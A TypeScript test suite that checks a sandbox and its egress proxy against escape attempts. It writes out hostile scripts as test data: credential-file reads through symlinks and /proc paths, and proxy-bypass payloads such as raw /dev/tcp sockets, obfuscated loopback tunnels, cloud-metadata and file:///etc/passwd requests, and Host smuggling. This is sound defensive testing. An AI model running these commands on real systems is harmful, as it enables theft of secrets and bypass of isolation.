import { execFileSync, spawnSync } from 'node:child_process';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, beforeEach, afterEach, describe, expect, it } from 'vitest';
import type { LayerView } from '../core/ports/layers.ts';
import { layerAttempts, processAttempts, type EscapeAttempt } from './escape-attempts.ts';
import { craftClientHello, serverNames } from './client-hello.ts';
import { holdingOpen, openEscapeWorld, type EscapeWorld } from './escape-world.ts';

/** Out of the sandbox: at files, processes, the kernel and the layer. The canaries are secrets, and a house whose every byte and time is looked at afterwards. */
export const describeSandboxEscapes = (who: string): void => {
  describe(`escapes from the sandbox, as ${who}`, () => {
    let world: EscapeWorld;
    let view: LayerView;
    beforeAll(async () => {
      world = await openEscapeWorld();
      process.env['ESCAPE_CANARY'] = world.sandbox.secret;
    });
    // Anew for each: what a control does to the view stays in its namespaces.
    beforeEach(async () => (view = await world.view()));
    afterEach(async () => view.close());
    afterAll(async () => {
      delete process.env['ESCAPE_CANARY'];
      await world.close();
    });

    const ssh = (): string => world.secrets['an SSH key'] ?? '';
    const args = (): string[] => [
      ssh(),
      String(process.pid),
      join(world.sandbox.root, 'state/sandbox-etc'),
      join(world.sandbox.data, 'layers'),
    ];
    const gotOut = (output: string): boolean => output.includes(world.sandbox.secret) || output.includes('GOT');
    const outside = (attempt: EscapeAttempt): string => {
      if (attempt.control === 'joined') return world.joined(view, attempt.script, args());
      const bash = ['/bin/bash', '-c', `exec 2>&1; ${attempt.script}`, 'bash', ...args()];
      const argv = attempt.control === 'bare' ? bash : ['unshare', '--user', '--map-root-user', '--mount', '--net', '--uts', ...bash];
      return spawnSync(argv[0] ?? '', argv.slice(1), { cwd: world.workspace, encoding: 'utf8' }).stdout;
    };

    it.each([...processAttempts, ...layerAttempts].map((each) => [each.title, each] as const))(
      'F59: cannot %s',
      async (_title, attempt) => {
        const before = await world.digest();
        const result = await holdingOpen(ssh(), async () => world.run(view, attempt.script, args()));
        expect(result.exit.kind, result.output).toBe('exited');
        expect(result.output).not.toContain(world.sandbox.secret);
        expect(result.output).not.toContain('GOT');
        expect(await world.digest()).toBe(before);
        // Positive control: without the sandbox the same script gets somewhere.
        const control = await holdingOpen(ssh(), async () => Promise.resolve(outside(attempt)));
        const isChanged = (await world.digest()) !== before;
        if (isChanged) world.plant();
        expect(isChanged || gotOut(control), control).toBe(true);
      },
    );

    const reads =
      'ln -sf "$1" link; for f in "$1" "/proc/1/root$1" "/proc/self/root$1" "../../../../../..$1" "/proc/self/cwd/../../../..$1" link "$HOME/../../..$1"; do cat "$f"; done; ln "$1" hard && cat hard; cp -r "$(dirname "$1")" copy && cat copy/*; rm -rf link hard copy; true';
    const names = [
      'an SSH key',
      'GnuPG’s keys',
      'the cloud’s credentials',
      'Docker’s logins',
      'a cluster’s key',
      'npm’s token',
      'cargo’s token',
      'git’s passwords',
      'pip’s passwords',
      'GitHub’s token',
      'Firefox’s profile',
      'Chromium’s profile',
      'the keyring',
      'the shell’s history',
      'the log of events',
      'the policy',
      'kept contents',
      'another task’s layer',
      'a neighbour’s workspace',
      'another workspace’s HOME',
      'what lies beside the workspace',
    ];
    it.each(names)('F59: cannot read or change %s', async (name) => {
      const path = world.secrets[name] ?? '';
      const writes = 'echo x >> "$1"; rm -f "$1"; touch "$(dirname "$1")/planted"; chmod 777 "$1"; mv "$(dirname "$1")" away';
      const before = await world.digest();
      const result = await world.run(view, `${reads}; ${writes}`, [path]);
      expect(result.exit.kind).toBe('exited');
      expect(result.output).not.toContain(world.sandbox.secret);
      expect(await world.digest()).toBe(before);
      expect(execFileSync('cat', [path], { encoding: 'utf8' })).toContain(world.sandbox.secret);
      expect(execFileSync('ls', ['-A', dirname(path)], { encoding: 'utf8' })).not.toContain('planted');
    });

    it('F59: inherits no descriptor: not of namespaces, of the layer, of bubblewrap’s, nor the gate’s', async () => {
      const list =
        'for d in /proc/[0-9]*/fd/*; do echo "$d $(readlink "$d")"; done; exec 2>/dev/null; for n in $(seq 3 64); do : <&$n && echo "open $n"; done';
      const { output } = await world.run(view, list);
      expect(output).not.toMatch(/(user|mnt|net):\[|layers|workspace|gatehouse-|socket:/);
      // bash’s own copy of what it reads a list from may be among them.
      expect(output.match(/^open \d+$/gm) ?? []).toEqual([]);
      expect(world.joined(view, 'ls -l /proc/self/fd')).toMatch(/(user|mnt):\[/);
    });

    it('F59: keeps nothing of one workspace’s HOME for another', async () => {
      await world.run(view, `echo ${world.sandbox.secret} > ~/kept`);
      expect((await world.run(view, 'cat ~/kept')).output).toContain(world.sandbox.secret);
      const { neighbour } = world.sandbox;
      const other = await world.sandbox.bash('cat ~/kept; cat /run/home/kept', {
        profile: world.profile,
        cwd: neighbour,
        workspaces: [neighbour],
        mount: { kind: 'read-only' },
      });
      expect(other.output).not.toContain(world.sandbox.secret);
    });
  });
};

const through = (request: string): string =>
  `p=\${HTTP_PROXY##*:}; exec 3<>/dev/tcp/127.0.0.1/$p && printf '${request}' >&3 && timeout 3 cat <&3`;
/** A tunnel, and in it what TLS begins with, for the same name or another. */
const connect = (authority: string, name = authority.replace(/:\w+$/, '')): string => {
  const hello = [...craftClientHello([[0, serverNames(name)]])].map((byte) => `\\${byte.toString(8).padStart(3, '0')}`).join('');
  return through(`CONNECT ${authority} HTTP/1.1\\r\\nHost: ${authority}\\r\\n\\r\\n${hello}`);
};

/** `CANARY` stands for the port of a listener that nobody may reach, `PLAIN` for that of a server that ok.test leads to. */
const ways: readonly (readonly [string, string])[] = [
  ['go past the proxy by address', 'exec 3<>/dev/tcp/127.0.0.1/CANARY && printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3'],
  ['go past the proxy by IPv6', 'exec 3<>/dev/tcp/::1/CANARY && echo x >&3'],
  ['go past the proxy by a name', 'exec 3<>/dev/tcp/localhost/CANARY && echo x >&3'],
  ['go past the proxy with curl', 'curl -s --noproxy "*" --max-time 3 http://127.0.0.1:CANARY/'],
  ['send datagrams', 'echo x > /dev/udp/127.0.0.1/CANARY; exec 3<>/dev/tcp/127.0.0.1/CANARY'],
  ['tunnel to loopback', connect('127.0.0.1:CANARY')],
  ['tunnel to localhost', connect('localhost:CANARY')],
  ['tunnel to IPv6’s loopback', connect('[::1]:CANARY')],
  ['tunnel to loopback as IPv6', connect('[::ffff:127.0.0.1]:CANARY')],
  ['tunnel to loopback as one number', connect('2130706433:CANARY')],
  ['tunnel to loopback in octal', connect('0177.0.0.1:CANARY')],
  ['tunnel to loopback cut short', connect('127.1:CANARY')],
  ['tunnel to nowhere in particular', connect('0.0.0.0:CANARY')],
  ['tunnel to the cloud’s metadata', connect('169.254.169.254:80')],
  ['tunnel to a name off the list', connect('evil.test:CANARY')],
  ['tunnel to a name that ends as one on the list', connect('evilok.test:CANARY')],
  ['tunnel to a name that begins as one on the list', connect('ok.test.evil:CANARY')],
  ['tunnel to another port of a name on the list', connect('ok.test:CANARY')],
  ['tunnel to a listed name that leads to loopback', connect('inside.test:CANARY')],
  ['tunnel with a NUL in the name', connect('ok.test\\000.evil.test:CANARY')],
  ['tunnel under a name on the list and speak to another', connect('inside.test:CANARY', 'ok.test')],
  ['tunnel with another name in the Host', through('CONNECT evil.test:CANARY HTTP/1.1\\r\\nHost: ok.test:PLAIN\\r\\n\\r\\n')],
  ['ask for a page of loopback', through('GET http://127.0.0.1:CANARY/ HTTP/1.1\\r\\nHost: ok.test:PLAIN\\r\\n\\r\\n')],
  ['ask with a user before the name', through('GET http://ok.test:PLAIN@127.0.0.1:CANARY/ HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n')],
  ['ask for another scheme', through('GET ftp://127.0.0.1:CANARY/ HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n')],
  ['ask for a file', through('GET file:///etc/passwd HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n')],
  [
    'be sent on to another place',
    through('GET http://ok.test:PLAIN/away HTTP/1.1\\r\\nHost: ok.test:PLAIN\\r\\nConnection: close\\r\\n\\r\\n'),
  ],
  [
    'reach the proxy’s own socket',
    `perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0) and print "G", "OT\\n"'; find / -type s 2>/dev/null | grep -q . && printf 'G%s' OT`,
  ],
];

/** Out through the network that a profile opens to one host. The canary is a listener that counts. */
export const describeEgressEscapes = (who: string): void => {
  describe(`escapes by the way out, as ${who}`, () => {
    let world: EscapeWorld;
    let view: LayerView;
    beforeAll(async () => {
      world = await openEscapeWorld();
      world.egress.names.set('inside.test', [['127.0.0.1']]);
    });
    beforeEach(async () => (view = await world.view()));
    afterEach(async () => view.close());
    afterAll(async () => world.close());

    const ask = async (script: string, domains?: readonly string[]): Promise<string> => {
      const { plainPort, canaryPort } = world.egress;
      const listed = domains ?? [`ok.test:${plainPort}`, `inside.test:${canaryPort}`];
      const profile = { ...world.profile, network: { domains: [...listed], intercept: [] } };
      const text = script.replaceAll('CANARY', String(canaryPort)).replaceAll('PLAIN', String(plainPort));
      return (await world.run(view, text, [], { profile })).output;
    };

    it('F59: positive control: leads to the host on the list, and the canary counts', async () => {
      const served = await ask(
        through('GET http://ok.test:PLAIN/fine HTTP/1.1\\r\\nHost: ok.test:PLAIN\\r\\nConnection: close\\r\\n\\r\\n'),
      );
      expect(served).toContain('served /fine');
      const before = world.egress.canaryHits();
      // The same tunnel, were the canary on the list: what the attempts below send is what would get there.
      expect(await ask(connect('ok.test:CANARY'), [`ok.test:${world.egress.canaryPort}`])).toContain('200');
      expect(world.egress.canaryHits()).toBe(before + 1);
    });

    it.each(ways)('F59: cannot %s', async (_title, script) => {
      const before = world.egress.canaryHits();
      const dialled = world.egress.dialed.length;
      const output = await ask(script);
      expect(output).not.toMatch(/canary|GOT|root:x:0/);
      expect(world.egress.canaryHits()).toBe(before);
      for (const { text } of world.egress.dialed.slice(dialled)) expect(text).toBe('93.184.215.14');
    });

    it('F59: without a network in the profile, there is no proxy and nothing to reach it by', async () => {
      const { output } = await world.run(
        view,
        'env | grep -ic _proxy; grep -c : /proc/net/dev; (exec 3<>/dev/tcp/127.0.0.1/$1) && echo reached',
        [String(world.egress.canaryPort)],
      );
      expect(output).toMatch(/^0\n1\n/);
      expect(output).not.toContain('reached');
    });
  });
};
